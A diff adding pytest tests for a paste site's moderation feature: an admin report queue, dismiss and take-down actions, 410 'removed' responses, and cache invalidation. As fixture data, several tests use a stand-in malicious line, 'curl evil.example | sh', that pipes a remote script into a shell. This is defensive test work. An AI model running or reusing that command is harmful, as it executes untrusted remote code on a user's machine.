@@ -1,0 +1,194 @@
+"""Taking a snippet down: the admins' queue of reports, its two actions, and what a removed
+snippet answers afterwards — ``410`` "removed" wherever its content could leak, its content
+gone from the database, and no cache serving it again.
+"""
+
+import pytest
+from django.apps import apps
+from django.core.cache import cache
+from django.test import Client as DjangoClient
+
+from apps.snippets import catalog, highlighting, takedown
+from apps.snippets.models import Report, Snippet
+
+pytestmark = pytest.mark.django_db
+
+QUEUE = "/admin/snippets/report/"
+
+
+def report(client, snippet_id, reason="spam", text="", address="192.0.2.1"):
+    response = client.post(f"/api/snippets/{snippet_id}/report", json={"reason": reason, "text": text},
+                           environ_base={"REMOTE_ADDR": address})
+    assert response.status_code == 201, response.get_data(as_text=True)
+    return response.get_json()["id"]
+
+
+def act(admin_client, action, *report_ids):
+    return admin_client.post(QUEUE, {"action": action, "_selected_action": [str(pk) for pk in report_ids]},
+                             follow=True)
+
+
+@pytest.fixture
+def reported(client, paste):
+    """A fork whose parent was reported twice (by two people) for malware."""
+    parent = paste("curl evil.example | sh\n", title="Installer", filename="install.sh")
+    child = client.post("/api/snippets", json={"content": "echo safe\n"}).get_json()
+    Snippet.objects.filter(pk=child["id"]).update(parent_id=parent["id"])
+    first = report(client, parent["id"], "malware", "runs a remote script")
+    second = report(client, parent["id"], "malware", address="192.0.2.9")
+    return parent["id"], child["id"], (first, second)
+
+
+# The queue
+
+
+def test_the_queue_shows_open_reports_newest_first_with_the_snippet_and_its_count(admin_client, client, reported):
+    parent_id, _, (first, second) = reported
+    other = client.post("/api/snippets", json={"content": "hello\n"}).get_json()["id"]
+    closed = report(client, other, "other", "meh")
+    Report.objects.filter(pk=closed).update(status=Report.DISMISSED)
+    page = admin_client.get(QUEUE).content.decode()
+    assert "runs a remote script" in page and "Malware or phishing" in page
+    assert f'href="/s/{parent_id}"' in page
+    assert "meh" not in page  # dismissed: not in the queue by default
+    assert page.index(f'/admin/snippets/report/{second}/') < page.index(f'/admin/snippets/report/{first}/')
+    assert '<td class="field-reports_of_snippet">2</td>' in page
+    assert '<td class="field-reporters">2</td>' in page
+    assert "meh" in admin_client.get(QUEUE + "?status=all").content.decode()
+
+
+def test_the_queue_is_for_admins_only(client, reported):
+    assert DjangoClient().get(QUEUE).status_code == 302  # to the login page
+
+
+def test_dismiss_closes_the_reports_and_keeps_the_snippet(admin_client, admin_user, client, reported):
+    parent_id, _, reports = reported
+    assert act(admin_client, "dismiss", *reports).status_code == 200
+    assert set(Report.objects.values_list("status", "handled_by")) == {(Report.DISMISSED, admin_user.pk)}
+    assert client.get(f"/s/{parent_id}/raw").status_code == 200
+    assert "runs a remote script" not in admin_client.get(QUEUE).content.decode()
+
+
+def test_take_down_removes_the_snippet_and_records_who_when_and_why(admin_client, admin_user, reported):
+    parent_id, _, (first, _) = reported
+    response = act(admin_client, "take_down", first)  # one report is enough to act on its snippet
+    assert "1 snippet(s) removed" in response.content.decode()
+    snippet = Snippet.objects.get(pk=parent_id)
+    assert snippet.removed_at is not None and snippet.removed_by == admin_user
+    assert snippet.removed_reason == "malware"
+    assert set(Report.objects.values_list("status", flat=True)) == {Report.ACTIONED}  # both reports closed
+
+
+def test_take_down_from_the_snippet_list_too(admin_client, paste):
+    snippet = paste()
+    admin_client.post("/admin/snippets/snippet/", {"action": "take_down", "_selected_action": [snippet["id"]]})
+    assert Snippet.objects.get(pk=snippet["id"]).removed_reason == "other"
+
+
+# What a removed snippet answers
+
+
+@pytest.fixture
+def removed(reported, admin_user):
+    parent_id, child_id, _ = reported
+    assert takedown.remove(parent_id, "malware", admin_user)
+    return parent_id, child_id
+
+
+def test_its_content_is_gone_from_the_database_but_its_id_and_reason_stay(removed):
+    parent_id, _ = removed
+    row = Snippet.objects.get(pk=parent_id)
+    assert (row.content, row.title, row.filename, row.lexer, row.delete_token_hash) == ("", "", "", "", "")
+    assert row.sha256 and row.removed_reason == "malware"
+    assert row.expires_at is None  # the cleanup never deletes it, so its id is never free again
+
+
+@pytest.mark.parametrize("path", ["/s/{id}", "/s/{id}/raw", "/s/{id}/download", "/s/{id}/fork", "/s/{id}/delete",
+                                  "/s/{id}/report"])
+def test_every_page_answers_410_removed(client, removed, path):
+    response = client.get(path.format(id=removed[0]))
+    assert response.status_code == 410
+    text = response.get_data(as_text=True)
+    assert "This snippet was removed" in text and "malware or phishing" in text
+    assert "curl evil.example" not in text and "Installer" not in text
+
+
+def test_the_api_answers_410_removed(client, removed):
+    for response in (
+        client.get(f"/api/snippets/{removed[0]}"),
+        client.delete(f"/api/snippets/{removed[0]}", headers={"Authorization": "Token anything"}),
+        client.post(f"/api/snippets/{removed[0]}/report", json={"reason": "spam"}),
+    ):
+        assert response.status_code == 410
+        assert response.get_json()["error"]["code"] == "removed"
+        assert response.get_json()["error"]["reason"] == "malware"
+
+
+def test_another_app_fetching_raw_gets_json_removed(client, removed):
+    response = client.get(f"/s/{removed[0]}/raw", headers={"X-Composite-Fetch": "diffviewer"})
+    assert response.status_code == 410
+    assert response.get_json()["error"]["code"] == "removed"
+
+
+def test_its_forks_page_offers_no_compare_with_the_removed_parent(client, removed):
+    parent_id, child_id = removed
+    page = client.get(f"/s/{child_id}").get_data(as_text=True)
+    assert "compare with parent" not in page and f"/s/{parent_id}" not in page
+
+
+def test_the_diff_viewers_compare_by_reference_is_refused_without_the_text(client, removed):
+    """The paste site answers the diff viewer's fetch 410 removed (JSON); what the diff viewer
+    makes of it is its own (today: "The left reference was refused: it answered 410")."""
+    parent_id, child_id = removed
+    response = client.get(f"/diff/compare?left=/s/{parent_id}/raw&right=/s/{child_id}/raw")
+    text = response.get_data(as_text=True)
+    assert response.status_code >= 400
+    assert "410" in text or "removed" in text
+    assert "curl evil.example" not in text
+
+
+def test_the_same_text_cannot_be_posted_again(client, post_form, removed):
+    again = client.post("/api/snippets", json={"content": "curl evil.example | sh\n"})
+    assert again.status_code == 422 and again.get_json()["error"]["code"] == "removed_content"
+    form = post_form("/", content="curl evil.example | sh\n", expires="never", lexer="auto")
+    assert form.status_code == 400 and "cannot be posted again" in form.get_data(as_text=True)
+    assert client.post("/api/snippets", json={"content": "curl evil.example | sh  \n"}).status_code == 201
+
+
+def test_it_is_listed_nowhere(client, removed):
+    parent_id, _ = removed
+    assert parent_id not in client.get("/mine").get_data(as_text=True)
+
+
+# Caches
+
+
+def test_no_cache_serves_it_again_in_this_process_or_another(client, paste, admin_user, stub_highlighter):
+    """Its page and rendering are dropped here; and a page or rendering another process still
+    holds is never used, because every view asks the database first."""
+    snippet = paste("print('do not keep me')\n")
+    environ = {"wsgi.url_scheme": "http", "SERVER_NAME": "localhost", "SERVER_PORT": "80"}
+    assert "do not keep me" in client.get(f"/s/{snippet['id']}").get_data(as_text=True)  # cached now
+    pages = apps.get_app_config("snippets").pages
+    row = Snippet.objects.get(pk=snippet["id"])
+    key = highlighting.cache_key(row, catalog.current(environ).version)
+    assert any(k[0] == snippet["id"] for k in pages.pages) and cache.get(key) is not None
+    kept_key, kept_page = next((k, v) for k, v in pages.pages.items() if k[0] == snippet["id"])
+    kept_rendering = cache.get(key)
+
+    takedown.remove(snippet["id"], "spam", admin_user, environ)
+    assert not any(k[0] == snippet["id"] for k in pages.pages)
+    assert cache.get(key) is None
+
+    # As if another process (or a Redis shared by it) still held them.
+    pages.put(kept_key, kept_page)
+    cache.set(key, kept_rendering)
+    asked = stub_highlighter.highlights
+    response = client.get(f"/s/{snippet['id']}")
+    assert response.status_code == 410 and "do not keep me" not in response.get_data(as_text=True)
+    assert stub_highlighter.highlights == asked
+
+
+def test_removing_twice_is_harmless(admin_user, removed):
+    assert takedown.remove(removed[0], "spam", admin_user) is False
+    assert Snippet.objects.get(pk=removed[0]).removed_reason == "malware"
